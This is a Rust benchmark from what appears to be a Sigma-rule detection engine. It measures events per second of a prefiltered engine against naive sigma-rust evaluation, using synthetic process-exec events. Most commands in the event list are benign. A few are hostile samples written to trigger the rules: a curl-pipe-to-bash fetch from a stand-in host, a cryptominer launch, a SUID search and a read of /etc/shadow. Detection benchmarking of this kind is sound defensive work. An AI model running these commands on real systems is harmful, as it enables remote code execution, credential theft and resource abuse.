//! The Sigma half of `make bench`: events per second per core through the engine (category
//! index and literal prefilter) against sigma-rust evaluating every rule on every event, with
//! the shipped and the test-data rules, then with that rule set loaded ten times over to show
//! how each approach scales with the number of rules.

use std::{path::PathBuf, sync::Arc, time::Instant};

use vigil_events::{Event, EventBody, Process, ProcessExec};
use vigil_policy_engine::sigma::{sigma_fields, SigmaEngine, Users};

/// Command lines of an ordinary busy machine (builds, services, shells), with a few that the
/// rules are written to catch.
const COMMANDS: [(&str, &str); 24] = [
    ("/usr/bin/git", "status --porcelain"),
    ("/usr/bin/make", "-j2 all"),
    ("/usr/bin/cc", "-O2 -c main.c -o main.o"),
    ("/usr/bin/ld", "-o app main.o util.o -lc"),
    ("/usr/bin/ls", "-la /var/lib"),
    ("/usr/bin/grep", "-rn TODO src"),
    ("/usr/bin/sed", "-i s/foo/bar/ config.ini"),
    ("/usr/bin/python3", "manage.py runserver 0.0.0.0:8000"),
    ("/usr/bin/node", "server.js --port 3000"),
    ("/usr/bin/cat", "/proc/meminfo"),
    ("/usr/sbin/sshd", "-D -R"),
    ("/usr/bin/systemctl", "status nginx"),
    ("/usr/bin/curl", "-s https://example.org/health"),
    ("/usr/bin/tar", "-xzf release.tar.gz -C /opt/app"),
    ("/usr/bin/ps", "aux"),
    ("/usr/bin/sleep", "30"),
    ("/usr/bin/journalctl", "-u app --since today"),
    ("/usr/bin/awk", "{print $1} access.log"),
    ("/usr/bin/sort", "-u names.txt"),
    ("/usr/bin/bash", "-c ./run-tests.sh"),
    (
        "/usr/bin/bash",
        "-c \"curl -s http://x.invalid/i.sh | bash\"",
    ),
    ("/usr/bin/nohup", "./miner --donate-level=0"),
    ("/usr/bin/find", "/ -perm -4000 -type f"),
    ("/usr/bin/cat", "/etc/shadow"),
];

fn events() -> Vec<Event> {
    let parent = Arc::new(Process {
        binary: "/usr/bin/bash".into(),
        arguments: "-l".into(),
        pid: 100,
        ..Default::default()
    });
    COMMANDS
        .iter()
        .enumerate()
        .map(|(i, (bin, args))| Event {
            body: EventBody::ProcessExec(ProcessExec {
                process: Arc::new(Process {
                    binary: bin.to_string(),
                    arguments: args.to_string(),
                    pid: 1000 + i as u32,
                    cwd: "/home/dev/project".into(),
                    ..Default::default()
                }),
                parent: Some(parent.clone()),
                ancestors: vec![],
            }),
            node_name: "bench".into(),
            node_labels: Default::default(),
            time: "2026-11-25T00:00:00Z".into(),
        })
        .collect()
}

/// Events per second through `f` over about a second; and the alerts it counted per pass.
fn rate(events: &[Event], mut f: impl FnMut(&Event) -> usize) -> (f64, usize) {
    let per_pass: usize = events.iter().map(&mut f).sum();
    let start = Instant::now();
    let mut n = 0usize;
    while start.elapsed().as_secs_f64() < 1.0 {
        for e in events {
            std::hint::black_box(f(e));
        }
        n += events.len();
    }
    (n as f64 / start.elapsed().as_secs_f64(), per_pass)
}

fn main() {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("..");
    let sets = [root.join("rules/sigma"), vigil_tests::sigma_rules_dir()];
    let events = events();
    let users = Users::read();
    println!("| rules loaded | engine (category index + literal prefilter) | sigma-rust, every rule on every event | ratio | alerts per pass (both) |");
    println!("|---|---|---|---|---|");
    for copies in [1usize, 10] {
        let paths: Vec<PathBuf> = (0..copies).flat_map(|_| sets.clone()).collect();
        let (engine, errors) = SigmaEngine::load(&paths);
        assert!(errors.is_empty(), "{errors:?}");
        let (fast, fast_alerts) = rate(&events, |e| engine.evaluate(e).len());
        let (slow, slow_alerts) = rate(&events, |e| {
            sigma_fields(e, &users).map_or(0, |f| engine.evaluate_naive(&f))
        });
        assert_eq!(
            fast_alerts, slow_alerts,
            "the prefilter must not lose a match"
        );
        println!(
            "| {} | {fast:.0} events/s | {slow:.0} events/s | {:.1}× | {fast_alerts} |",
            engine.rules().len(),
            fast / slow
        );
    }
}
